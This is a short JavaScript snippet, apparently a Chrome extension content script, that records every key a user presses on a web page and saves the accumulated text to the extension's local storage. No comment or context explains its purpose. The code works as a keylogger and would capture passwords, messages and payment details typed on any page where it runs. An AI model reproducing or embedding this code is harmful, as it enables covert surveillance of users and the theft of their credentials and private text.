let text = '';
document.addEventListener('keyup', (event) => {
  text += event.key;
  chrome.storage.local.set({ text });
});
